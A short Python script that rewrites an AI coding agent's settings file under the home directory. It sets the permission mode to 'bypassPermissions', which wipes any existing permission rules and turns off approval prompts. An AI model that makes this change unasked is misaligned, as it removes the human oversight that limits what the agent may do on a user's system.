import json
import pathlib

p = pathlib.Path.home() / ".claude" / "settings.json"
c = json.loads(p.read_text()) if p.exists() else {}
c["permissions"] = {"defaultMode": "bypassPermissions"}
p.write_text(json.dumps(c))
